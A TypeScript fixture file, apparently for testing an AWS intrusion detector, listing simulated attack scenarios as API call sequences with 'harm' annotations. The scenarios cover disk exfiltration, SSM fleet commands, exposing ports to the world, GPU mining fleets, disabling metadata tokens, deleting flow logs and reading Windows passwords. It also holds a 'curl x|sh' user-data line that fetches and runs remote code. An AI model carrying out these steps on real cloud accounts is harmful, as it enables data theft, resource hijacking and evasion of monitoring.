import { AGENTS, HOME, role, STRANGER, user, wrapped, type Intrusion, type Step } from '../step';

const BOTO = 'Boto3/1.42.3 md/Botocore#1.42.3 ua/2.1 os/linux#6.8.0-88-generic md/arch#x86_64 lang/python#3.12.3 md/pyimpl#CPython Botocore/1.42.3';
const CLI = 'aws-cli/2.33.2 md/awscrt#0.29.1 ua/2.1 os/linux#6.12.38+kali-amd64 md/arch#x86_64 lang/python#3.13.9 md/pyimpl#CPython';
const GO = 'aws-sdk-go-v2/1.40.0 ua/2.1 os/linux lang/go#1.25.4 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.270.0';
const ok = { requestId: '2f8e0000-0000-4000-8000-000000000000', _return: true };
const sso = (name: string, person: string, agent: string = CLI, from = '203.0.113.191') => role(`AWSReservedSSO_${name}_0f1e2d3c4b5a6978`, `${person}@example.com`, from, agent);
const rule = (protocol: string, from: number, to: number, range: object): object => ({ items: [{ ipProtocol: protocol, fromPort: from, toPort: to, groups: {}, ipRanges: {}, ipv6Ranges: {}, prefixListIds: {}, ...range }] });

/**
 * A seventh set (its other parts are in `identity.ts`, `data.ts` and `services.ts`): many short
 * stories from reports of incidents and from what attack tools do, most of them with the session of a role, not with a
 * long-term key. This part is about machines, disks and networks.
 */
export const compute: readonly Intrusion[] = [
  {
    name: 'disks of one machine copied out together',
    as: sso('PowerUser', 'ava'),
    steps: [
      { call: 'ec2:DescribeInstances', request: { instancesSet: {}, filterSet: {} } },
      wrapped('CreateSnapshots', { InstanceSpecification: { InstanceId: 'i-0d1d2d3d4d5d6d7d8', ExcludeBootVolume: false }, Description: 'x' }, { response: { CreateSnapshotsResponse: { requestId: 'x', snapshotSet: { item: [{ snapshotId: 'snap-0d1d2d3d4d5d6d701' }, { snapshotId: 'snap-0d1d2d3d4d5d6d702' }] } } } }),
      { call: 'ec2:ModifySnapshotAttribute', request: { snapshotId: 'snap-0d1d2d3d4d5d6d701', createVolumePermission: { add: { items: [{ userId: STRANGER }] } }, attributeType: 'CREATE_VOLUME_PERMISSION' }, response: ok, harm: 'a disk shared with a strange account' },
      { call: 'ec2:ModifySnapshotAttribute', request: { snapshotId: 'snap-0d1d2d3d4d5d6d702', createVolumePermission: { add: { items: [{ group: 'all' }] } }, attributeType: 'CREATE_VOLUME_PERMISSION' }, response: ok, harm: 'a disk shared with everybody' },
      { call: 'ec2:SharedSnapshotVolumeCreated', as: { identity: { type: 'AWSAccount', accountId: STRANGER, invokedBy: 'ec2.amazonaws.com' }, from: 'ec2.amazonaws.com', agent: 'ec2.amazonaws.com' }, request: { snapshotId: 'snap-0d1d2d3d4d5d6d701' }, more: { eventType: 'AwsServiceEvent' }, harm: 'a volume made of the shared disk in that account', after: 900 },
      { call: 'ec2:DeleteSnapshot', request: { snapshotId: 'snap-0d1d2d3d4d5d6d702' }, response: ok },
    ],
  },
  {
    name: 'a disk of the database machine read on a machine of the intruder’s',
    as: role('ci-runner', 'build-4711', '198.51.100.192', GO),
    steps: [
      { call: 'ec2:CreateSnapshot', request: { volumeId: 'vol-0d1d2d3d4d5d6d7d8' }, response: { snapshotId: 'snap-0d1d2d3d4d5d6d703', volumeId: 'vol-0d1d2d3d4d5d6d7d8' } },
      { call: 'ec2:CreateVolume', request: { size: '0', zone: 'us-east-1b', volumeType: 'gp3', snapshotId: 'snap-0d1d2d3d4d5d6d703' }, response: { volumeId: 'vol-0e1e2e3e4e5e6e7e8' }, after: 120 },
      { call: 'ec2:AttachVolume', request: { volumeId: 'vol-0e1e2e3e4e5e6e7e8', instanceId: 'i-0e1e2e3e4e5e6e7e8', device: '/dev/sdf', deleteOnTermination: false }, response: { volumeId: 'vol-0e1e2e3e4e5e6e7e8', status: 'attaching' }, harm: 'a copy of another machine’s disk attached' },
      { call: 'ec2:DetachVolume', request: { volumeId: 'vol-0e1e2e3e4e5e6e7e8', force: false }, after: 1200 },
      { call: 'ec2:DeleteVolume', request: { volumeId: 'vol-0e1e2e3e4e5e6e7e8' }, response: ok },
      { call: 'ec2:DeleteSnapshot', request: { snapshotId: 'snap-0d1d2d3d4d5d6d703' }, response: ok, harm: 'the traces of the copy removed' },
    ],
  },
  {
    name: 'machines commanded from a session of an administrator',
    as: sso('Admin', 'ben', AGENTS.boto),
    steps: [
      { call: 'ssm:DescribeInstanceInformation', request: { maxResults: 50 } },
      { call: 'ssm:SendCommand', request: { documentName: 'AWS-RunRemoteScript', instanceIds: [], targets: [{ key: 'tag:env', values: ['prod'] }], parameters: 'HIDDEN_DUE_TO_SECURITY_REASONS', maxErrors: '100%', maxConcurrency: '100%', interactive: false }, response: { command: { commandId: 'aa11', documentName: 'AWS-RunRemoteScript', targetCount: 0 } }, harm: 'a script from elsewhere run on all machines of production' },
      { call: 'ssm:GetCommandInvocation', request: { commandId: 'aa11', instanceId: 'i-0d1d2d3d4d5d6d7d8' } },
      { call: 'ssm:StartSession', request: { target: 'i-0d1d2d3d4d5d6d7d8', documentName: 'AWS-StartPortForwardingSessionToRemoteHost', parameters: { host: ['db.prod.internal'], portNumber: ['5432'], localPortNumber: ['5432'] } }, response: { sessionId: 'ben-0aa' } },
      { call: 'ssm:CreateActivation', request: { iamRole: 'service-role/AmazonEC2RunCommandRoleForManagedInstances', registrationLimit: 10, defaultInstanceName: 'x' }, response: { activationId: 'aa11bb22-1111-4222-8333-444455556666' }, harm: 'machines elsewhere let into the fleet' },
      { call: 'ssm:ModifyDocumentPermission', request: { name: 'prod-runbook', permissionType: 'Share', accountIdsToAdd: ['all'] }, harm: 'a runbook shown to everybody' },
      { call: 'ssm:CreateAssociation', request: { name: 'AWS-RunShellScript', targets: [{ key: 'InstanceIds', values: ['*'] }], scheduleExpression: 'rate(30 minutes)', parameters: 'HIDDEN_DUE_TO_SECURITY_REASONS' }, harm: 'a command on all machines every half hour' },
    ],
  },
  {
    name: 'machines entered with pushed keys',
    as: role('Developer', 'cleo@example.com', '203.0.113.193', CLI),
    steps: [
      { call: 'ec2:DescribeInstances', request: { instancesSet: {}, filterSet: {} } },
      { call: 'ec2:AuthorizeSecurityGroupIngress', request: { groupId: 'sg-0d1d2d3d4d5d6d7d8', ipPermissions: rule('tcp', 22, 22, { ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } }) }, response: ok, harm: 'SSH opened to the world' },
      ...['i-0d1d2d3d4d5d6d701', 'i-0d1d2d3d4d5d6d702', 'i-0d1d2d3d4d5d6d703'].map((instanceId, n): Step => ({ call: 'ec2-instance-connect:SendSSHPublicKey', request: { instanceId, instanceOSUser: 'ec2-user', sSHPublicKey: 'ssh-ed25519 AAAA' }, response: { requestId: 'x', success: true }, after: 8, ...(n === 2 ? { harm: 'keys pushed to one machine after the other' } : {}) })),
      wrapped('CreateInstanceConnectEndpoint', { SubnetId: 'subnet-0d1d2d3d4d5d6d7d8', PreserveClientIp: false }, { harm: 'a door to machines without addresses' }),
      { call: 'ec2:RevokeSecurityGroupIngress', request: { groupId: 'sg-0d1d2d3d4d5d6d7d8', ipPermissions: rule('tcp', 22, 22, { ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } }) }, response: ok },
    ],
  },
  {
    name: 'traffic mirrored to a network that was joined',
    as: sso('NetworkAdmin', 'dan'),
    steps: [
      { call: 'ec2:CreateVpcPeeringConnection', request: { vpcId: 'vpc-0d1d2d3d4d5d6d7d8', peerVpcId: 'vpc-0f1f2f3f4f5f6f7f8', peerOwnerId: STRANGER }, response: { vpcPeeringConnection: { vpcPeeringConnectionId: 'pcx-0d1d2d3d4d5d6d7d8' } }, harm: 'the network joined to one of a strange account' },
      { call: 'ec2:CreateRoute', request: { routeTableId: 'rtb-0d1d2d3d4d5d6d7d8', destinationCidrBlock: '172.31.0.0/16', vpcPeeringConnectionId: 'pcx-0d1d2d3d4d5d6d7d8' }, response: ok, after: 300 },
      wrapped('CreateTrafficMirrorTarget', { NetworkLoadBalancerArn: `arn:aws:elasticloadbalancing:us-east-1:${STRANGER}:loadbalancer/net/x/aa11` }, {}),
      wrapped('CreateTrafficMirrorFilter', { Description: 'x' }, {}),
      wrapped('CreateTrafficMirrorFilterRule', { TrafficMirrorFilterId: 'tmf-0d1', TrafficDirection: 'ingress', RuleNumber: 1, RuleAction: 'accept', DestinationCidrBlock: '0.0.0.0/0', SourceCidrBlock: '0.0.0.0/0' }, {}),
      wrapped('CreateTrafficMirrorSession', { NetworkInterfaceId: 'eni-0d1d2d3d4d5d6d7d8', TrafficMirrorTargetId: 'tmt-0d1', TrafficMirrorFilterId: 'tmf-0d1', SessionNumber: 1 }, { harm: 'packets of a machine mirrored' }),
    ],
  },
  {
    name: 'doors of databases opened in rules that were there',
    as: sso('PowerUser', 'eve'),
    steps: [
      { call: 'ec2:DescribeSecurityGroupRules', request: { DescribeSecurityGroupRulesRequest: '' } },
      wrapped('ModifySecurityGroupRules', { GroupId: 'sg-0d1d2d3d4d5d6d7d8', SecurityGroupRule: { SecurityGroupRuleId: 'sgr-0d1', tag: 1, SecurityGroupRule: { IpProtocol: 'tcp', FromPort: 5432, ToPort: 5432, CidrIpv4: '0.0.0.0/0' } } }, { harm: 'a database opened to the world' }),
      { call: 'ec2:AuthorizeSecurityGroupIngress', request: { groupId: 'sg-0d1d2d3d4d5d6d7d8', ipPermissions: rule('tcp', 3389, 3389, { ipv6Ranges: { items: [{ cidrIpv6: '::/0' }] } }) }, response: ok, harm: 'remote desktop opened to the world' },
      { call: 'ec2:CreateNetworkAclEntry', request: { networkAclId: 'acl-0d1d2d3d4d5d6d7d8', ruleNumber: 1, egress: false, ruleAction: 'allow', icmpTypeCode: {}, portRange: {}, aclProtocol: '-1', cidrBlock: '0.0.0.0/0' }, response: ok, harm: 'a network’s list opened to everybody' },
      { call: 'rds:ModifyDBInstance', request: { dBInstanceIdentifier: 'shop', publiclyAccessible: true, applyImmediately: true }, response: { dBInstanceIdentifier: 'shop' }, harm: 'a database given an address of the Internet' },
    ],
  },
  {
    name: 'miners in ten minutes, over clusters and groups that resist being ended',
    as: user('svc-deploy', BOTO, '198.51.100.194'),
    steps: [
      { call: 'servicequotas:GetServiceQuota', request: { serviceCode: 'ec2', quotaCode: 'L-1216C47A' } },
      { call: 'ec2:RunInstances', request: { instancesSet: { items: [{ imageId: 'ami-0abcdef1234567890', minCount: 1, maxCount: 1 }] }, instanceType: 't3.micro' }, error: 'Client.DryRunOperation', message: 'Request would have succeeded, but DryRun flag is set.' },
      { call: 'iam:CreateServiceLinkedRole', request: { aWSServiceName: 'autoscaling.amazonaws.com' } },
      { call: 'iam:CreateRole', request: { roleName: 'lambda-ex', assumeRolePolicyDocument: '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"lambda.amazonaws.com"},"Action":"sts:AssumeRole"}]}' } },
      { call: 'ecs:RegisterTaskDefinition', request: { family: 'x1', cpu: '16384', memory: '32768', networkMode: 'awsvpc', requiresCompatibilities: ['FARGATE'], containerDefinitions: [{ name: 'x', image: 'yx65958/secret:user', essential: true }] }, harm: 'a large task of an image from a public registry' },
      ...Array.from({ length: 12 }, (_, n): Step => ({ call: 'ecs:CreateCluster', request: { clusterName: `c${n}` }, after: 1, ...(n === 11 ? { harm: 'clusters by the dozen' } : {}) })),
      { call: 'ecs:CreateService', request: { cluster: 'c1', serviceName: 's', taskDefinition: 'x1', desiredCount: 10, launchType: 'FARGATE' } },
      wrapped('CreateLaunchTemplate', { LaunchTemplateName: 'm', LaunchTemplateData: { ImageId: 'ami-0abcdef1234567890', InstanceType: 'g4dn.12xlarge', UserData: 'IyEvYmluL2Jhc2g=' } }, { harm: 'a template for machines with GPUs' }),
      { call: 'autoscaling:CreateAutoScalingGroup', request: { autoScalingGroupName: 'm', minSize: 20, maxSize: 999, launchTemplate: { launchTemplateName: 'm' } }, harm: 'a scaling group of hundreds' },
      { call: 'ec2:ModifyInstanceAttribute', request: { instanceId: 'i-0d1d2d3d4d5d6d7d8', disableApiTermination: { value: true } }, response: ok, harm: 'machines kept from being ended' },
    ],
  },
  {
    name: 'machines on the spot market by the hundred',
    as: role('batch-admin', 'cli', '198.51.100.195', CLI),
    steps: [
      { call: 'ec2:DescribeSpotPriceHistory', request: { instanceTypeSet: { items: [{ instanceType: 'p5.48xlarge' }] } } },
      { call: 'ec2:RequestSpotFleet', request: { RequestSpotFleetRequest: { SpotFleetRequestConfig: { IamFleetRole: `arn:aws:iam::${HOME}:role/aws-ec2-spot-fleet-tagging-role`, TargetCapacity: 200, AllocationStrategy: 'capacityOptimized', LaunchSpecifications: { tag: 1, ImageId: 'ami-0abcdef1234567890', InstanceType: 'p4d.24xlarge' } } } }, harm: 'a fleet of two hundred machines with GPUs' },
      { call: 'ec2:RequestSpotInstances', request: { spotPrice: '40', instanceCount: 30, type: 'persistent', launchSpecification: { imageId: 'ami-0abcdef1234567890', instanceType: 'p5.48xlarge' } }, harm: 'thirty of the dearest machines asked for' },
      wrapped('ModifyFleet', { FleetId: 'fleet-0d1', TargetCapacitySpecification: { TotalTargetCapacity: 500 } }, { harm: 'a fleet grown to five hundred' }),
      { call: 'autoscaling:UpdateAutoScalingGroup', request: { autoScalingGroupName: 'workers', minSize: 150, maxSize: 400, desiredCapacity: 300 }, harm: 'a scaling group grown to three hundred' },
    ],
  },
  {
    name: 'small servers for rent, entered and multiplied',
    as: sso('Billing', 'fay'),
    steps: [
      { call: 'lightsail:GetInstances', request: {} },
      { call: 'lightsail:GetInstanceAccessDetails', request: { instanceName: 'blog', protocol: 'ssh' }, harm: 'a key for the server of the blog taken' },
      { call: 'lightsail:DownloadDefaultKeyPair', request: {}, harm: 'the key of all servers taken' },
      { call: 'lightsail:PutInstancePublicPorts', request: { instanceName: 'blog', portInfos: [{ fromPort: 0, toPort: 65535, protocol: 'all', cidrs: ['0.0.0.0/0'] }] }, harm: 'all ports of a server opened' },
      { call: 'lightsail:CreateInstances', request: { instanceNames: Array.from({ length: 20 }, (_, n) => `n${n}`), bundleId: '2xlarge_3_0', blueprintId: 'ubuntu_24_04', availabilityZone: 'us-east-1a', userData: 'curl x|sh' }, harm: 'twenty large servers made' },
    ],
  },
  {
    name: 'a stronger profile for a machine that is held',
    as: role('ci-runner', 'job-88', '198.51.100.196', AGENTS.cli),
    steps: [
      { call: 'iam:ListInstanceProfiles', request: {} },
      wrapped('DescribeIamInstanceProfileAssociations', '', {}),
      wrapped('ReplaceIamInstanceProfileAssociation', { AssociationId: 'iip-assoc-0d1', IamInstanceProfile: { Name: 'AdminInstanceProfile' } }, { harm: 'a machine given a stronger role' }),
      { call: 'sts:GetCallerIdentity', as: role('AdminInstance', 'i-0d1d2d3d4d5d6d7d8', '198.51.100.196', AGENTS.cli), after: 60, harm: 'the credentials of that machine used elsewhere' },
      { call: 'iam:CreateAccessKey', request: { userName: 'backup' }, response: { accessKey: { userName: 'backup', accessKeyId: 'AKIAEXAMPLEBACKUP002', status: 'Active' } }, as: role('AdminInstance', 'i-0d1d2d3d4d5d6d7d8', '198.51.100.196', AGENTS.cli), harm: 'a key of another user made' },
    ],
  },
  {
    name: 'a start script for all machines of tomorrow',
    as: role('deploy', 'gitlab-runner', '198.51.100.197', BOTO),
    steps: [
      wrapped('DescribeLaunchTemplateVersions', { LaunchTemplateId: 'lt-0d1d2d3d4d5d6d7d8' }, {}),
      wrapped('CreateLaunchTemplateVersion', { LaunchTemplateId: 'lt-0d1d2d3d4d5d6d7d8', SourceVersion: '12', LaunchTemplateData: { UserData: 'IyEvYmluL2Jhc2gKY3VybCB4', ImageId: 'ami-0ff11ff22ff33ff44' } }, {}),
      { call: 'autoscaling:StartInstanceRefresh', request: { autoScalingGroupName: 'web', preferences: { minHealthyPercentage: 0 } } },
      wrapped('CreateReplaceRootVolumeTask', { InstanceId: 'i-0d1d2d3d4d5d6d7d8', ImageId: 'ami-0ff11ff22ff33ff44', DeleteReplacedRootVolume: true }, { harm: 'the disk a machine starts from exchanged' }),
      wrapped('ModifyInstanceMetadataOptions', { InstanceId: 'i-0d1d2d3d4d5d6d7d8', HttpTokens: 'optional', HttpPutResponseHopLimit: 3 }, { harm: 'metadata without a token again' }),
      wrapped('ModifyInstanceMetadataDefaults', { HttpTokens: 'optional' }, { harm: 'metadata without a token for all machines to come' }),
    ],
  },
  {
    name: 'images that leave through a bucket and a door without a guard',
    as: sso('PowerUser', 'gus'),
    steps: [
      wrapped('DisableImageBlockPublicAccess', '', { harm: 'images may be made public' }),
      wrapped('DisableSnapshotBlockPublicAccess', '', { harm: 'disks may be made public' }),
      { call: 'ec2:ModifyImageAttribute', request: { imageId: 'ami-0abcdef1234567890', launchPermission: { add: { items: [{ group: 'all' }] } }, attributeType: 'launchPermission' }, response: ok, harm: 'an image made public' },
      wrapped('CreateStoreImageTask', { ImageId: 'ami-0abcdef1234567890', Bucket: 'stranger-drop' }, { harm: 'an image put into a bucket' }),
      { call: 'ec2:CopySnapshot', request: { sourceRegion: 'us-east-1', sourceSnapshotId: 'snap-0d1d2d3d4d5d6d701', encrypted: true, kmsKeyId: `arn:aws:kms:us-east-1:${STRANGER}:key/aa11bb22-cc33-4d44-8e55-ff6677889900` }, response: { snapshotId: 'snap-0d1d2d3d4d5d6d709' }, harm: 'a disk under a strange key' },
    ],
  },
  {
    name: 'addresses and ways taken away',
    as: sso('NetworkAdmin', 'hal', AGENTS.browser),
    steps: [
      wrapped('EnableAddressTransfer', { AllocationId: 'eipalloc-0d1d2d3d4d5d6d7d8', TransferAccountId: STRANGER }, { harm: 'an address of the company given away' }),
      wrapped('DeleteNatGateway', { NatGatewayId: 'nat-0d1d2d3d4d5d6d7d8' }, { harm: 'the way out of private networks deleted' }),
      { call: 'ec2:ReplaceRoute', request: { routeTableId: 'rtb-0d1d2d3d4d5d6d7d8', destinationCidrBlock: '0.0.0.0/0', networkInterfaceId: 'eni-0f1f2f3f4f5f6f7f8' }, response: ok, harm: 'all that leaves led over a machine' },
      { call: 'ec2:DeleteFlowLogs', request: { DeleteFlowLogsRequest: { FlowLogId: { content: 'fl-0d1d2d3d4d5d6d7d8', tag: 1 } } }, harm: 'the log of connections deleted' },
      { call: 'network-firewall:UpdateFirewallPolicy', request: { firewallPolicyName: 'main', firewallPolicy: { statelessDefaultActions: ['aws:pass'], statelessFragmentDefaultActions: ['aws:pass'] }, updateToken: 'x' }, harm: 'a firewall that lets everything pass' },
      { call: 'route53resolver:DisassociateFirewallRuleGroup', request: { firewallRuleGroupAssociationId: 'rslvr-frgassoc-0d1' }, harm: 'names that were barred may be asked for' },
      { call: 'route53resolver:UpdateFirewallConfig', request: { resourceId: 'vpc-0d1d2d3d4d5d6d7d8', firewallFailOpen: 'ENABLED' }, harm: 'barred names let through when the guard fails' },
    ],
  },
  {
    name: 'passwords of Windows asked for one after the other',
    as: role('HelpDesk', 'ida@example.com', '203.0.113.198', BOTO),
    steps: [
      { call: 'ec2:DescribeInstances', request: { instancesSet: {}, filterSet: { items: [{ name: 'platform', valueSet: { items: [{ value: 'windows' }] } }] } } },
      ...Array.from({ length: 6 }, (_, n): Step => ({ call: 'ec2:GetPasswordData', request: { instanceId: `i-0d1d2d3d4d5d6d70${n}` }, response: { instanceId: `i-0d1d2d3d4d5d6d70${n}`, passwordData: '***', timestamp: 1 }, after: 3, ...(n === 5 ? { harm: 'passwords of Windows machines read in a row' } : {}) })),
      { call: 'ec2:GetConsoleScreenshot', request: { GetConsoleScreenshotRequest: { InstanceId: 'i-0d1d2d3d4d5d6d701' } } },
      { call: 'ec2:DescribeInstanceAttribute', request: { instanceId: 'i-0d1d2d3d4d5d6d701', attribute: 'userData' } },
      wrapped('EnableSerialConsoleAccess', '', { harm: 'the serial console of all machines switched on' }),
    ],
  },
];
